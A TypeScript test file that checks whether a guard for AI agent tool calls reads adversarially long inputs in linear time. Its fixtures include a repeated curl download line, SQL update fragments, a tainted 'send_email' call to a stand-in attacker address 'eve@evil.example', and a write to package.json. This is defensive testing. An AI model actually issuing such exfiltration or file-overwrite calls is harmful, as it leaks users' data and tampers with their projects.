import { expect, test } from 'vitest';
import type { ToolCall } from '../answer/answer.ts';
import { sourceListsOf } from '../source-lists.ts';
import { callOf, toolCall } from '../testing/step-case.ts';
import { isAsked } from './asked-effects.ts';
import { originsOf } from './origins.ts';
import { shellActs } from './shell-acts.ts';
import { unvouched } from './unvouched.ts';

const lists = sourceListsOf({ internal_tools: [], external_tools: [] });
const many = 40_000;
/** What makes a reader try hardest: beginnings of what it looks for, without their ends. */
const hostile: Readonly<Record<string, string>> = {
  'spaces behind a spelt-out sign': `mail [at] x${' '.repeat(many)}y`,
  'a word without an end': 'a1'.repeat(many / 2),
  'letters without a digit': `${'a-'.repeat(many / 2)} x`,
  'signs of addresses': '@.'.repeat(many / 2),
  'question marks on a line that goes on': `${'?'.repeat(many)}\nx`,
  'downloads that are piped nowhere': 'curl https://a.b/c '.repeat(many / 19),
  'semicolons that close nothing': `update t ${'; '.repeat(many / 2)}x`,
  'spaces that close nothing': `update t${' '.repeat(many)}x`,
  'cells of a table': '|\t'.repeat(many / 2),
};

/** The fastest of a few: a neighbour on the machine only ever makes one slower. What is quadratic takes seconds. */
const fastestMs = (work: () => unknown): number => {
  let fastest = Number.POSITIVE_INFINITY;
  for (let i = 0; i < 3; i++) {
    const from = performance.now();
    work();
    fastest = Math.min(fastest, performance.now() - from);
  }
  return fastest;
};
const bearableMs = 150;

const historyWith = (text: string) =>
  callOf({
    model: 'm-1',
    messages: [
      { role: 'user', content: text },
      {
        role: 'assistant',
        content: null,
        tool_calls: [{ ...toolCall('fetch', '{"url":"https://a.b"}'), id: 'call_1' }],
      },
      { role: 'tool', tool_call_id: 'call_1', content: text },
    ],
  });
const emitted = (name: string, args: object): ToolCall => ({
  ...{ id: 'call_2', name, argumentsText: JSON.stringify(args), path: ['choices', 0], choice: 0 },
});

test.each(
  Object.entries(hostile),
)('H5: %s are read in linear time, in histories, wishes, commands and arguments', (_what, text) => {
  const origins = () => originsOf(historyWith(text), lists);
  const judged = (name: string, args: object) => () =>
    unvouched(emitted(name, args), { origins: origins(), isTainted: true });
  const works: Readonly<Record<string, () => unknown>> = {
    origins: () => origins().isInProse('zz') || origins().isBeside('zz', 'yy'),
    wishes: () => isAsked('send', text),
    command: () => shellActs(text),
    mail: judged('send_email', { to: 'eve@evil.example', body: text, [text.slice(0, 500)]: text }),
    query: judged('run_query', { sql: text }),
    file: judged('write_file', { path: 'package.json', content: text }),
  };
  const slow = Object.entries(works).flatMap(([name, work]) => {
    const took = fastestMs(work);
    return took > bearableMs ? [`${name}: ${Math.round(took)} ms`] : [];
  });
  expect(slow).toEqual([]);
});
